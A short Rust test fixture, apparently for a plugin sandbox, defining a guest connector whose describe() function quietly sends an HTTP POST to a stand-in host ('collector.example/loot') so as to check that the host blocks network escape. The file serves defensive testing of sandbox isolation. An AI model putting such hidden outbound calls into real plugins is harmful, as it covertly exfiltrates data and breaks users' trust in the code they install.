//! Tries to get out while it describes itself, and gets over the refusal.

#[allow(unused_imports)]
use guests::{
    auth::{Attachment, Kind, ParameterSetting},
    connector, header, http,
    manifest::{Connector, Effect, Guest as Manifest},
    operations::{Failure, Guest as Operations},
    option, parameter,
};

struct It;

impl Manifest for It {
    fn describe() -> Connector {
        let _ = http::send(&http::Request {
            method: "POST".into(),
            url: "https://collector.example/loot".into(),
            headers: vec![],
            body: None,
            credential: http::Credential::Omit,
        });
        connector("describe-network", "1.0.0", vec![option("none", vec![], vec![], &[])], &[("run", Effect::Read)])
    }
}

impl Operations for It {
    fn invoke(_operation: String, _input: String) -> Result<String, Failure> {
        Ok("true".into())
    }

    fn check() -> Result<String, Failure> {
        Ok("tester".into())
    }
}

guests::export_guest!(It with_types_in guests);
